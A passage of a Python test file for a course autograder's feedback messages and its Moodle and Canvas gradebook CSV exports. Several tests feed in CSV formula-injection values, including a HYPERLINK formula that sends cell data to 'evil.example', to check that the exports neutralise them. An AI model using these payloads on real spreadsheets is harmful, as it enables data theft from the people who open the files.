    """The judge's own messages, read back from a result as the class report does: an exception at import is named
    with its line, an import that ran out of time may loop, a check not run because earlier ones used up the run's
    time does not, and a mistake's < stays text in Moodle's HTML."""
    from grader.classroom.pages import _feedback, _timeout_note
    from grader.judge.messages import describe_failure
    from grader.results import CheckResult, GradeResult
    from grader.sandbox.supervisor import LearnerFailure

    def result(*checks):
        made = [CheckResult(id=f"c{number}", name=f"check {number}", category="forward", status=status, score=score,
                            max_score=1.0, message=message, where=where, at_import=at_import, mistake=mistake)
                for number, (status, score, message, where, at_import, mistake) in enumerate(checks)]
        return GradeResult.from_dict(GradeResult(challenge=CHALLENGE, title="t", chapter="4", submission="",
                                                 checks=made).to_dict())

    item = {"challenge": CHALLENGE, "origin": "Ada Lovelace_501_assignsubmission_file/main.py", "state": "error"}
    at_five = {"line": 5, "source": "print(undefined)"}
    raised = describe_failure(LearnerFailure("exception", type="NameError", message="name 'undefined' is not defined",
                                             where=at_five), at_import=True)
    assert _feedback(item, result(("error", 0.0, raised, at_five, True, None)), 2) == (
        "0 of 2 points: your file could not be imported, so no check could run. Importing it raised NameError at "
        "line 5.")
    from grader.classroom.pages import _error_cause

    assert _error_cause(item, result(("error", 0.0, raised, at_five, True, None))) == "NameError at line 5"
    exits = describe_failure(LearnerFailure("exit", message="0", where=at_five), at_import=True)
    assert _feedback(item, result(("error", 0.0, exits, at_five, True, None)), 2) == (
        "0 of 2 points: your file could not be imported, so no check could run. Importing it called sys.exit() at "
        "line 5.")
    assert _error_cause(item, result(("error", 0.0, exits, at_five, True, None))) == "sys.exit() at line 5"
    loops = {"line": 3, "source": "while True:"}
    hung = describe_failure(LearnerFailure("timeout", facts={"seconds": 20}, where={"top_level": loops}),
                            at_import=True)
    assert _feedback(dict(item, state="timeout"), result(("timeout", 0.0, hung, loops, True, None)), 2) == (
        "0 of 2 points: your file could not be imported, so no check could run. Importing it ran out of time at line "
        "3: it may loop forever.")
    # The import's note says it all: no check ran out of time of its own.
    assert _timeout_note(result(("timeout", 0.0, hung, loops, True, None))) == ""
    left_none = describe_failure(LearnerFailure("timeout", facts={"run_seconds": 45}))
    slow = result(("passed", 1.0, "", None, False, None), ("failed", 0.0, "wrong", None, False, "lost_axis"),
                  ("timeout", 0.0, left_none, None, False, None), ("timeout", 0.0, left_none, None, False, None))
    assert _feedback(dict(item, state="attempted"), slow, 4) == (
        "1 of 4 points: 1 of 4 checks passed; mistakes found: a missing keepdims, or a reduction along the wrong axis. "
        'The check "check 2" and 1 more ran out of the time one run allows: your code may be too slow.')
    assert _timeout_note(slow) == ('2 checks ran out of time, the first "check 2", not run: earlier checks used up '
                                   "the time one run allows")
    assert "&lt;" in _feedback(dict(item, state="attempted"), result(("failed", 0.0, "", None, False, "a<b")), 1)
    # No mistake named: the check to read about first.
    unnamed = result(("passed", 1.0, "", None, False, None), ("error", 0.0, "raised", None, False, None),
                     ("failed", 0.0, "wrong", None, False, None), ("skipped", 0.0, "fix first", None, False, None))
    assert _feedback(dict(item, state="attempted"), unnamed, 4) == (
        '1 of 4 points: 1 of 4 checks passed; the first to fix: "check 1" and 1 more.')


@pytest.mark.parametrize("challenge, said", [
    ("challenge_2_shapes", "not started, as main.py is the stub as shipped, whose mistakes the challenge asks you "
                           "to fix: a "),
    (CHALLENGE, "not started, as main.py is the stub as shipped: fill in its TODOs."),
])
def test_the_feedback_on_an_untouched_stub_asks_for_what_its_challenge_asks(graded_course, challenge, said):
    """Challenge 2's stub ships code with mistakes to fix, not TODOs: its feedback says so, and names its mistakes
    as those to fix, not as mistakes the learner made."""
    from grader.classroom.pages import _feedback
    from grader.results import GradeResult

    _, graded = graded_course(challenge, "stub")
    item = {"challenge": challenge, "origin": "a/main.py", "state": "not-started", "untouched": True}
    feedback = _feedback(item, GradeResult.from_dict(graded), graded["max_score"])
    assert feedback.startswith(f"0 of {graded['max_score']:g} points: {said}"), feedback
    assert "TODO" not in feedback or challenge == CHALLENGE


def test_no_grading_worksheet_is_filled_in_for_several_challenges_and_an_earlier_one_is_deleted(tmp_path):
    from grader.classroom.identity import read_class_list
    from grader.classroom.lms_gradebooks import Writers

    challenges = [type("Challenge", (), {"name": f"challenge_{number}", "number": number, "title": title})()
                  for number, title in ((1, "Forward pass"), (3, "Activation functions"))]
    maxima = {"challenge_1": 10, "challenge_3": MAX}
    class_list = read_class_list(_grading_worksheet(tmp_path / "worksheet.csv"))
    (tmp_path / "grading-worksheet-moodle.csv").write_text("made by an earlier run\n")
    with Writers(tmp_path, ["moodle"], challenges[1:], {"challenge_3": MAX}, class_list) as writers:
        writers.add("Ada Lovelace", {"listed": True, "email": "ada@example.edu", "participant": "501"}, ["5.5"], 5.5,
                    entry="Ada Lovelace_501_assignsubmission_file", feedback=["5.5 of 11 points."])
    assert [row[4] for row in _read_csv(tmp_path / "grading-worksheet-moodle.csv")] == ["Grade", "50", "", "", "35,50",
                                                                                        ""]
    with Writers(tmp_path, ["moodle"], challenges, maxima, class_list) as writers:
        writers.add("Ada Lovelace", {"listed": True, "email": "ada@example.edu", "participant": "501"}, ["10", "5.5"],
                    15.5, entry="Ada Lovelace_501_assignsubmission_file", feedback=["", ""])
    assert not (tmp_path / "grading-worksheet-moodle.csv").exists()
    assert writers.exported["moodle"]["worksheet"] == {
        "why": "the grading worksheet given as class list holds one assignment's grades, and 2 challenges were graded; "
               "grade its challenge alone with --challenge", "removed": True}


def test_the_filled_in_worksheet_holds_no_formula_a_learner_wrote_and_what_the_upload_reads_as_downloaded(tmp_path):
    """A Moodle user chooses their own name, and writes the online text the worksheet carries: neither may reach
    the teacher's spreadsheet as a formula. What the upload reads back (Identifier, Last modified (grade)) is left
    as downloaded, "-" included, and so is a "-" it does not read back."""
    from grader.classroom.identity import read_class_list
    from grader.classroom.lms_gradebooks import Writers

    worksheet = tmp_path / "worksheet.csv"
    with open(worksheet, "w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(WORKSHEET_HEADING + ["Online text"])
        for participant, name in ((501, '=HYPERLINK("http://evil.example/?"&A1,"click")'), (502, "@SUM(1+1)")):
            table.writerow([f"Participant {participant}", name, "+x@example.edu", "Submitted for grading", "",
                            "100,00", "Yes", "-", "-", "", "=1+1"])
    challenge = type("Challenge", (), {"name": "challenge_3", "number": 3, "title": "Activation functions"})()
    with Writers(tmp_path, ["moodle"], [challenge], {"challenge_3": MAX}, read_class_list(worksheet)) as writers:
        writers.add("=HYPERLINK", {"listed": True, "participant": "501"}, ["5.5"], 5.5, entry="x",
                    feedback=["5.5 of 11 points."])
    filled = _read_csv(tmp_path / "grading-worksheet-moodle.csv")
    read_back = [WORKSHEET_HEADING.index(column) for column in ("Identifier", "Last modified (grade)")]
    for row in filled[1:]:
        assert not [cell for column, cell in enumerate(row) if column not in read_back and cell != "-"
                    and cell.lstrip(" \t\r\n").startswith(FORMULA_START)], row
        assert [row[column] for column in read_back] in (["Participant 501", "-"], ["Participant 502", "-"])
        # Moodle's "-" for a date never set is no formula, and reaches the teacher as Moodle wrote it.
        assert row[WORKSHEET_HEADING.index("Last modified (submission)")] == "-"
    assert filled[1][WORKSHEET_HEADING.index("Grade")] == "50"
    # The summary names a row kept by the name as written (the terminal shows it safely), not as the file guards it.
    assert [name for name, _ in writers.exported["moodle"]["worksheet"]["kept"]] == ["@SUM(1+1)"]


def test_a_row_whose_grade_moodle_will_not_change_keeps_its_grade_and_the_summary_says_why(tmp_path):
    """Moodle's worksheet says "Grade can be changed: No" of a grade locked or overridden in its gradebook, and its
    upload skips that row (mod/assign/feedback/offline/locallib.php, grading_disabled): a grade written there would
    only look as if it were given; nor does gradebook-moodle.csv hold it, since Moodle's CSV grade import stops at a
    locked grade (grade/import/csv/classes/load_data.php)."""
    from grader.classroom.identity import read_class_list
    from grader.classroom.lms_gradebooks import MOODLE_LOCKED, Writers
    from grader.cli.instructor import _worksheet

    worksheet = tmp_path / "worksheet.csv"
    with open(worksheet, "w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(WORKSHEET_HEADING)
        for participant, name, changeable in ((501, "Ada Lovelace", "Yes"), (502, "Alan Turing", "No")):
            table.writerow([f"Participant {participant}", name, "", "Submitted for grading", "40,00", "100,00",
                            changeable, "-", "-", ""])
    challenge = type("Challenge", (), {"name": "challenge_3", "number": 3, "title": "Activation functions"})()
    with Writers(tmp_path, ["moodle"], [challenge], {"challenge_3": MAX}, read_class_list(worksheet)) as writers:
        for name, participant in (("Ada Lovelace", "501"), ("Alan Turing", "502")):
            writers.add(name, {"listed": True, "participant": participant, "email": f"{participant}@uni.example"},
                        ["5.5"], 5.5, entry=name, feedback=["5.5 of 11 points."])
    grades = {row[1]: row[4] for row in _read_csv(tmp_path / "grading-worksheet-moodle.csv")[1:]}
    assert grades == {"Ada Lovelace": "50", "Alan Turing": "40,00"}
    assert [row[0] for row in _read_csv(tmp_path / "gradebook-moodle.csv")[1:]] == ["Ada Lovelace"]
    assert writers.exported["moodle"]["left_out"] == [("Alan Turing", MOODLE_LOCKED)]
    said = _worksheet(writers.exported["moodle"]["worksheet"])
    assert "filled in for 1 of its 2 rows" in said
    assert ("1 row keeps the Grade downloaded, as Moodle says the grade cannot be changed (a grade locked or "
            "overridden in its gradebook), which its upload would skip: Alan Turing.") in said


def test_a_moodle_gradebook_of_several_challenges_has_a_total_scaled_as_every_column(tmp_path):
    from grader.classroom.identity import ClassList
    from grader.classroom.lms_gradebooks import Writers

    challenges = [type("Challenge", (), {"name": f"challenge_{number}", "number": number, "title": title})()
                  for number, title in ((1, "Forward pass"), (3, "Activation functions"))]
    maxima = {"challenge_1": 10, "challenge_3": MAX}
    (tmp_path / "points").mkdir()
    with Writers(tmp_path / "points", ["moodle"], challenges, maxima) as writers:
        writers.add("Ada", {"email": "ada@example.edu"}, ["10", "5.5"], 15.5)
    assert _read_csv(tmp_path / "points" / "gradebook-moodle.csv") == [
        ["Full name", "Email address", "ID number", "NNFS 1: Forward pass", "NNFS 3: Activation functions", "Total"],
        ["Ada", "ada@example.edu", "", "10", "5.5", "15.5"]]
    assert writers.exported["moodle"]["out_of"] == {"NNFS 1: Forward pass": 10, "NNFS 3: Activation functions": MAX,
                                                    "Total": 21}
    with Writers(tmp_path, ["moodle"], challenges, maxima, ClassList([], grade_maximum=50)) as writers:
        writers.add("Ada", {"email": "ada@example.edu"}, ["10", "5.5"], 15.5)
        writers.add("Alan", {"email": "alan@example.edu"}, ["", ""], None)
    # Alan, with nothing graded, has no row: its blank cells would clear the grade Moodle holds.
    assert [row[3:] for row in _read_csv(tmp_path / "gradebook-moodle.csv")[1:]] == [["50", "25", "36.9"]]
    assert writers.exported["moodle"]["out_of"] == 50 and writers.exported["moodle"]["ungraded"] == ["Alan"]


def test_the_lms_gradebooks_hold_only_rows_their_lms_can_match_and_the_summary_names_the_others(tmp_path):
    """A Moodle row with an empty or unknown identifier aborts the whole import; Canvas matches on its ids."""
    roster, sources = tmp_path / "roster", _sources()
    for name, participant in (("Ada Lovelace", 501), ("Alan Turing", 502), ("Bob Nomail", 503),
                              ("Stan Stranger", 504)):
        write_learner(roster, f"{name}_{participant}_assignsubmission_file_", {"main.py": sources["full"].encode()},
                      False)
    class_list = tmp_path / "moodle_grades.csv"
    class_list.write_text("First name,Last name,ID number,Email address\nAda,Lovelace,S1,ada@example.edu\n"
                          "Alan,Turing,,alan@example.edu\nBob,Nomail,S3,\n")
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", class_list, "--gradebook", "moodle", "--gradebook",
                              "canvas")
    assert len(_read_csv(out / "grades.csv")) == 5, "grades.csv keeps every row"
    moodle = _read_csv(out / "gradebook-moodle.csv")
    assert [row[:3] for row in moodle[1:]] == [["Ada Lovelace", "ada@example.edu", "S1"],
                                              ["Alan Turing", "alan@example.edu", ""]]
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert [row[:3] for row in canvas[2:]] == [["Ada Lovelace", "", "S1"], ["Bob Nomail", "", "S3"]]
    assert ("gradebook-moodle.csv holds 2 learners, matched on import by its Email address column (map it to the "
            "same field in Moodle). Left out, as one row Moodle cannot match aborts its whole import: 1 row not on "
            "the class list (Stan Stranger); 1 row with no e-mail address, the column this file is matched on, "
            "though it has an ID number (Bob Nomail). grades.csv has every row.") in completed.stderr
    assert ("gradebook-canvas.csv holds 2 learners. Left out, as Canvas would ask whom each row it cannot match is "
            "for: 1 row with no Canvas ID, SIS User ID or SIS Login ID (Alan Turing); 1 row not on the class list "
            "(Stan Stranger). grades.csv has every row.") in completed.stderr


def test_a_learner_named_points_possible_is_a_person_of_the_class_list_but_never_a_row_canvas_takes_for_points(
        tmp_path):
    """Canvas's import takes any row whose first cell holds Points Possible for its points row
    (gradebook_importer.rb: row[0] =~ /Points Possible/): such a learner is graded, listed and left out of
    gradebook-canvas.csv with the reason; only Canvas's own points row of the class list (no ids) is no person."""
    roster, sources = tmp_path / "roster", _sources()
    for name, kind in (("Ada Lovelace", "full"), ("Zed Points Possible", "planted"), ("Mo points  POSSIBLE", "full")):
        write_learner(roster, name, {f"challenges/{CHALLENGE}/main.py": sources[kind].encode()}, False)
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\n'
                          'Ada Lovelace,201,S1,ada,A\nZed Points Possible,202,S2,zed,A\n'
                          'Mo points  POSSIBLE,203,S3,mo,A\n')
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", class_list, "--gradebook", "canvas")
    _assert_graded(rows, {"Ada Lovelace": "full", "Zed Points Possible": "planted", "Mo points  POSSIBLE": "full"})
    assert rows["Zed Points Possible"]["identity"]["lms_id"] == "202" and "Not on the class list" not in \
        completed.stderr and "No entry in the roster" not in completed.stderr
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert canvas[1][0] == "Points Possible" and [row[:2] for row in canvas[2:]] == [["Ada Lovelace", "201"]]
    assert ("Left out, as Canvas would ask whom each row it cannot match is for: 2 rows with a name holding the "
            "words Points Possible, which Canvas's import takes for its points row (Mo points  POSSIBLE; Zed Points "
            "Possible)") in completed.stderr
    assert len(_read_csv(out / "grades.csv")) == 4, "grades.csv keeps every row"


def test_a_moodle_gradebook_is_keyed_on_the_id_number_when_most_rows_have_one_and_no_e_mail(tmp_path):
    from grader.classroom.lms_gradebooks import Writers

    challenge = type("Challenge", (), {"name": CHALLENGE, "number": 3, "title": "Activation functions"})()
    with Writers(tmp_path, ["moodle", "canvas"], [challenge], {CHALLENGE: MAX}) as writers:
        writers.add("Ada", {"sids": ["S1"]}, ["11"], 11.0)
        writers.add("Alan", {"sid": "S2", "email": "alan@example.edu"}, ["3"], 3.0)
        writers.add("Grace", {"emails": ["grace@example.edu"]}, ["5"], 5.0)
        writers.add("Edsger", {"sids": ["S4"]}, ["0"], 0.0)
        writers.add("Barbara", {}, ["2"], 2.0)
        writers.add("Hedy", {"sid": "S5"}, [""], None)
        writers.add("Ivy", {}, [""], None)   # nothing graded and no id: counted alike in both files
    assert [row[:3] for row in _read_csv(tmp_path / "gradebook-moodle.csv")[1:]] == [
        ["Ada", "", "S1"], ["Alan", "alan@example.edu", "S2"], ["Edsger", "", "S4"]]
    assert writers.exported["moodle"] == {"rows": 3, "key": "ID number", "left_out": [
        ("Grace", "no ID number, the column this file is matched on, though it has an e-mail address"),
        ("Barbara", "no ID number, the column this file is matched on")], "ungraded": ["Hedy", "Ivy"], "partial": [],
        "out_of": {"NNFS 3: Activation functions": MAX}}
    assert writers.exported["canvas"]["left_out"] == [("Grace", "no Canvas ID, SIS User ID or SIS Login ID"),
                                                      ("Barbara", "no Canvas ID, SIS User ID or SIS Login ID")]
    assert writers.exported["canvas"]["ungraded"] == ["Hedy", "Ivy"]


def test_a_canvas_row_whose_every_id_had_to_be_kept_from_reading_as_a_formula_is_left_out_as_moodle_s_is(tmp_path):
    """An id written as '+1004, so that no spreadsheet runs it, matches nobody in Canvas: a row with no other id is
    left out with a sentence to enter its grade by hand, as gradebook-moodle.csv leaves out its like."""
    from grader.classroom.lms_gradebooks import CANVAS_ID_AS_FORMULA, Writers

    challenge = type("Challenge", (), {"name": CHALLENGE, "number": 3, "title": "Activation functions"})()
    with Writers(tmp_path, ["canvas"], [challenge], {CHALLENGE: MAX}) as writers:
        writers.add("Eve", {"sid": "+1004", "source": "gradescope"}, ["11"], 11.0)
        writers.add("Hidden", {"lms_id": "\u200b1005", "login": "@hid"}, ["4"], 4.0)
        writers.add("Ada", {"sid": "=1001", "lms_id": "1001"}, ["5"], 5.0)
    assert [row[:4] for row in _read_csv(tmp_path / "gradebook-canvas.csv")[2:]] == [["Ada", "1001", "'=1001", ""]]
    assert writers.exported["canvas"]["rows"] == 1
    assert writers.exported["canvas"]["left_out"] == [("Eve", CANVAS_ID_AS_FORMULA), ("Hidden", CANVAS_ID_AS_FORMULA)]
    assert "enter this grade by hand" in CANVAS_ID_AS_FORMULA


def test_a_file_of_one_challenge_s_grades_is_written_again_by_a_run_that_does_not_ask_for_its_platform(tmp_path):
    """A gradebook-canvas-challenge-N.csv an earlier run left, its main file moved away (imported), is written again
    from this run's grades, never left to disagree with grades.csv; where every learner of the file is graded in
    only some challenges, the summary does not send the instructor to another class list."""
    roster, other = tmp_path / "roster", "challenge_2_shapes"
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": _sources()["full"].encode(),
                                  f"challenges/{other}/main.py": solution(other).read_bytes()}, False)
    write_learner(roster, "bob", {f"challenges/{CHALLENGE}/main.py": _sources()["full"].encode() + b"# bob\n"}, False)
    class_list = tmp_path / "canvas.csv"
    class_list.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\nada,1,S1,ada,A\n"
                          "bob,2,S2,bob,A\n")
    out = tmp_path / "out"
    _report(roster, out, "--challenge", other, "--class-list", class_list, "--gradebook", "canvas")
    partial = out / "gradebook-canvas-challenge-3.csv"
    assert _read_csv(partial)[2:] == [["bob", "2", "S2", "bob", "A", str(MAX).removesuffix(".0")]]
    (out / "gradebook-canvas.csv").rename(tmp_path / "imported.csv")
    (roster / "bob" / "challenges" / CHALLENGE / "main.py").write_text(_sources()["planted"])
    completed, rows = _report(roster, out, "--challenge", other, "--class-list", class_list, "--gradebook", "moodle")
    assert _read_csv(partial)[2:] == [["bob", "2", "S2", "bob", "A", f"{rows['bob']['total']:g}"]]
    assert rows["bob"]["total"] < MAX and "gradebook-canvas-challenge-3.csv" in completed.stderr
    assert "With no row" not in completed.stderr


def test_a_run_again_without_challenge_grades_the_challenges_of_the_report_it_writes_into(tmp_path):
    """`grade report ROSTER --out OUT --learner NAME`, the README's command for one learner, into a report of some
    challenges grades those, not the whole course: its Moodle Total stays out of the same points."""
    roster, out = tmp_path / "roster", tmp_path / "out"
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": _sources()["full"].encode()}, False)
    write_learner(roster, "bob", {f"challenges/{CHALLENGE}/main.py": _sources()["planted"].encode()}, False)
    _report(roster, out)
    before = _read_csv(out / "grades.csv")[0]
    again = run_grade("report", roster, "--out", out, "-j", "1", "--learner", "ada", timeout=600)
    assert again.returncode == 0, again.stderr[-2000:]
    assert f"Grading 1 challenge, those of the report in {out} (--challenge 3)" in again.stderr
    assert _read_csv(out / "grades.csv")[0] == before and "Graded again, as --learner 'ada' names: ada." in again.stderr


def test_a_run_whose_remembered_class_list_is_gone_leaves_the_report_as_it_was(tmp_path):
    """The folder remembers the class list a run was given; where a later run cannot read it (moved, deleted), its
    gradebooks would be written again for no class (a new assignment in Canvas, no ids): the run grades nothing,
    says why and exits 2, until --class-list names it again or --replace writes the report without one."""
    roster, out, class_list = tmp_path / "roster", tmp_path / "out", tmp_path / "canvas_export.csv"
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": _sources()["full"].encode()}, False)
    class_list.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Challenge 3: activations (4521)\n"
                          "    Points Possible,,,,,10.00\nada,201,S1,ada,A,\n", encoding="utf-8")
    _report(roster, out, "--class-list", class_list, "--gradebook", "canvas")
    written = {path.name: path.read_bytes() for path in out.iterdir() if path.is_file()}
    class_list.rename(tmp_path / "moved.csv")
    refused = run_grade("report", roster, "--out", out, "-j", "1", timeout=600)
    assert refused.returncode == 2, refused.stderr[-2000:]
    said = " ".join(refused.stderr.split())
    assert "nothing was graded" in said and f"It was given to an earlier run into {out}," in said
    assert "Give --class-list again (the file, or where it is now), or pass --replace" in said
    assert {path.name: path.read_bytes() for path in out.iterdir() if path.is_file()} == written
    # Named again from where it is now, the run goes on, as it does with --replace (without one, and warned).
    _report(roster, out, "--class-list", tmp_path / "moved.csv")
    assert _read_csv(out / "gradebook-canvas.csv")[0][-1] == "Challenge 3: activations (4521)"
    (tmp_path / "moved.csv").unlink()
    completed, _ = _report(roster, out, "--replace")
    assert f"WARNING: The class list {tmp_path / 'moved.csv'} cannot be read" in completed.stderr
    # The folder forgets it then: the next run goes on without it, and without a word of it.
    again, _ = _report(roster, out)
    assert "moved.csv" not in again.stderr
    # Nobody in it has a Canvas id now: the earlier run's file, whose grades this run no longer gives, is gone, and
    # none is written in its place, nor by the next run.
    assert "No gradebook-canvas.csv was written" in completed.stderr and not (out / "gradebook-canvas.csv").exists()
    assert "The one an earlier run wrote into this folder was deleted" in " ".join(completed.stderr.split())
    assert "gradebook" not in again.stderr and not (out / "gradebook-canvas.csv").exists()


def test_an_assignment_the_class_list_gives_no_points_is_filled_in_points_and_the_summary_says_to_set_them():
    """Canvas's export gives an assignment 0.00 or no points: its grades stay points, and the summary says to set
    the assignment's points, not that the class list "gives none of its points"."""
    from grader.cli.instructor import _canvas_columns

    said = _canvas_columns({"existing": [("Challenge 3: activations (4521)", None, 11.0)], "ambiguous": {},
                            "new": [], "empty": 0})
    assert said == (" Its grades go into Challenge 3: activations (4521) (in points out of 11, as the class list's "
                    "Points Possible row is blank or 0 for it: set the assignment to 11 points in Canvas), the "
                    "assignment of the Canvas gradebook export given as class list, which Canvas's import updates.")


@pytest.mark.parametrize("title, topic_alone", [("Challenge 3: activations (4521)", False),
                                                 ("Quiz 2: Activation functions (4700)", True)])
def test_grades_an_import_would_replace_in_the_assignment_chosen_are_warned_of(tmp_path, title, topic_alone):
    """Canvas's import replaces every value that differs (gradebook_importer.rb, no_change_to_value?: the same text or
    the same number to 2 decimals is no change): each learner of the file whose grade there differs from the one the
    class list's assignment holds, an excused EX among them, is named with both, matched as the import matches rows
    (ID, else SIS User ID, else SIS Login ID). A grade that stays, and a learner the file leaves out, are not. A title
    that names the challenge by its topic alone (a quiz on activations) is said to."""
    from grader.classroom.identity import read_class_list
    from grader.classroom.lms_gradebooks import Writers

    class_list = tmp_path / "export.csv"
    class_list.write_text(f"Student,ID,SIS User ID,SIS Login ID,Section,{title},Challenge 4: loss (4522)\n"
                          "    Points Possible,,,,,10.00,10.00\n"
                          "\"Lovelace, Ada\",1001,S001,ada,A,EX,7.00\n\"Turing, Alan\",1002,S002,alan,A,8.00,\n"
                          "\"Hopper, Grace\",1003,S003,grace,A,,\n\"Lamarr, Hedy\",1004,S004,hedy,A,9.00,9.00\n",
                          encoding="utf-8")
    empty = tmp_path / "empty.csv"
    empty.write_text(f"Student,ID,SIS User ID,SIS Login ID,Section,{title},Challenge 4: loss (4522)\n"
                     "    Points Possible,,,,,10.00,10.00\n\"Lovelace, Ada\",1001,S001,ada,A,,\n", encoding="utf-8")
    challenges = [type("Challenge", (), {"name": f"challenge_{number}_x", "number": number, "title": topic})()
                  for number, topic in ((3, "Activation functions"), (4, "Loss"))]
    maxima = {challenge.name: 20.0 for challenge in challenges}

    def said(path, folder):
        folder.mkdir()
        with Writers(folder, ["canvas"], challenges, maxima, read_class_list(path)) as writers:
            writers.add("Lovelace, Ada", {"lms_id": "1001", "sid": "S001", "login": "ada"}, ["20", "14"], 34.0)
            # Known to the file by the SIS User ID alone, as Canvas's import may match the row.
            writers.add("Turing, Alan", {"sid": "S002"}, ["18", "6"], 24.0)
            writers.add("Hopper, Grace", {"lms_id": "1003"}, ["4", "4"], 8.0)
            # Hedy Lamarr is left out of the file (graded in nothing): her grades stay.
            writers.add("Lamarr, Hedy", {"lms_id": "1004"}, ["", ""], 0.0)
            return writers.replaced_grades().get("canvas", [])

    assert said(class_list, tmp_path / "out") == [
        f"gradebook-canvas.csv puts challenge_3_x's grades into {title}"
        + (", which its title names by the topic alone (not by Challenge 3 or NNFS 3)" if topic_alone else "")
        + ", whose column in the class list holds another grade for 2 of the learners it grades (Lovelace, Ada: EX "
        "(excused) becomes 10; Turing, Alan: 8.00 becomes 9): importing the file replaces each. Check that this is "
        "the assignment meant, and leave out of the file the learners whose grade should stay."]
    assert (tmp_path / "out" / "gradebook-canvas.csv").read_text().count("1001") == 1
    # An assignment with no grade yet is filled in without a word.
    assert said(empty, tmp_path / "empty-out") == []


def test_a_moodle_row_whose_key_a_spreadsheet_would_run_as_a_formula_is_left_out_with_why(tmp_path):
    """Every cell is written so that no spreadsheet runs it as a formula ('=...): an e-mail so written matches nobody in
    Moodle, whose import stops at a row it cannot match (load_data.php). Such a row is left out, and said to be."""
    from grader.classroom.lms_gradebooks import Writers

    challenges = [type("Challenge", (), {"name": "challenge_1_x", "number": 1, "title": "Forward pass"})()]
    with Writers(tmp_path, ["moodle"], challenges, {"challenge_1_x": 10.0}) as writers:
        writers.add("Ada", {"email": "ada@example.edu"}, ["10"], 10.0)
        writers.add("Eve", {"email": "=evil@example.edu"}, ["7"], 7.0)
    assert [row[:2] for row in _read_csv(tmp_path / "gradebook-moodle.csv")] == [
        ["Full name", "Email address"], ["Ada", "ada@example.edu"]]
    (why,) = [why for name, why in writers.exported["moodle"]["left_out"] if name == "Eve"]
    assert why.startswith("an e-mail address that starts as a spreadsheet formula does")


def test_a_learner_graded_in_some_of_several_challenges_gets_no_blank_cell_but_a_file_per_challenge(tmp_path):
    """Canvas's and Moodle's imports clear a grade where a cell is blank (Canvas: gradebook_importer.rb,
    no_change_to_value?): a learner graded in only some of the challenges goes, for each challenge they have a grade
    in, to that challenge's own file, which the summary names; no file holds a blank grade, a challenge nobody has
    a grade in gets no column, and a file of one challenge an earlier run wrote and this one did not is deleted."""
    from grader.classroom.lms_gradebooks import Writers
    from grader.cli.instructor import _gradebook_summary

    challenges = [type("Challenge", (), {"name": f"challenge_{number}_x", "number": number, "title": title})()
                  for number, title in ((1, "Forward pass"), (2, "Backprop"), (3, "Nobody"))]
    maxima = {challenge.name: 10.0 for challenge in challenges}
    (tmp_path / "gradebook-canvas-challenge-3.csv").write_text("from an earlier run")
    with Writers(tmp_path, ["canvas", "moodle"], challenges, maxima) as writers:
        writers.add("Ada", {"lms_id": "1", "email": "ada@example.edu"}, ["10", "7", ""], 17.0)
        writers.add("Bob", {"lms_id": "2", "email": "bob@example.edu"}, ["4", "", ""], 4.0)
        writers.add("Cy", {"lms_id": "3", "email": "cy@example.edu"}, ["", "0", ""], 0.0)
        writers.add("Di", {"lms_id": "4", "email": "di@example.edu"}, ["", "", ""], None)
    assert _read_csv(tmp_path / "gradebook-canvas.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "NNFS 1: Forward pass", "NNFS 2: Backprop"],
        ["Points Possible", "", "", "", "", "10", "10"], ["Ada", "1", "", "", "", "10", "7"]]
    assert _read_csv(tmp_path / "gradebook-canvas-challenge-1.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "NNFS 1: Forward pass"],
        ["Points Possible", "", "", "", "", "10"], ["Bob", "2", "", "", "", "4"]]
    assert _read_csv(tmp_path / "gradebook-canvas-challenge-2.csv")[2:] == [["Cy", "3", "", "", "", "0"]]
    assert _read_csv(tmp_path / "gradebook-moodle.csv") == [
        ["Full name", "Email address", "ID number", "NNFS 1: Forward pass", "NNFS 2: Backprop", "Total"],
        ["Ada", "ada@example.edu", "", "10", "7", "17"]]
    assert _read_csv(tmp_path / "gradebook-moodle-challenge-1.csv") == [
        ["Full name", "Email address", "ID number", "NNFS 1: Forward pass"], ["Bob", "bob@example.edu", "", "4"]]
    assert sorted(path.name for path in tmp_path.glob("gradebook-*-challenge-*.csv")) == [
        "gradebook-canvas-challenge-1.csv", "gradebook-canvas-challenge-2.csv", "gradebook-moodle-challenge-1.csv",
        "gradebook-moodle-challenge-2.csv"]
    for path in tmp_path.glob("gradebook-*.csv"):
        grades = 5 if "canvas" in path.name else 3
        assert all(all(row[grades:]) for row in _read_csv(path)[1:] if row[0] != "Points Possible"), path.name
    assert writers.exported["moodle"]["out_of"] == {"NNFS 1: Forward pass": 10, "NNFS 2: Backprop": 10, "Total": 20}
    # Scaled to a worksheet's maximum grade, the Total is out of the columns written, not of challenge 3's too.
    scaled = tmp_path / "scaled"
    scaled.mkdir()
    worksheet = types.SimpleNamespace(grade_maximum=100.0, assignments=[], worksheet=None, held={})
    with Writers(scaled, ["moodle"], challenges, maxima, worksheet) as again:
        again.add("Ada", {"email": "ada@example.edu"}, ["10", "7", ""], 17.0)
    assert _read_csv(scaled / "gradebook-moodle.csv")[1][3:] == ["100", "70", "85"]
    canvas = writers.exported["canvas"]
    assert canvas["rows"] == 1 and canvas["ungraded"] == ["Di"] and canvas["partial"] == [
        ("gradebook-canvas-challenge-1.csv", ["Bob"]), ("gradebook-canvas-challenge-2.csv", ["Cy"])]
    said = _gradebook_summary("canvas", canvas)
    assert ("gradebook-canvas.csv holds 1 learner. 1 row with nothing graded is left out too (Di)" in said
            and "2 learners graded in only some of the challenges (Bob; Cy) are not in it, as a blank cell would "
                "clear the grade Canvas holds for a challenge not graded here: the grades of each challenge they "
                "have are in a file of its own, gradebook-canvas-challenge-1.csv (1 learner); "
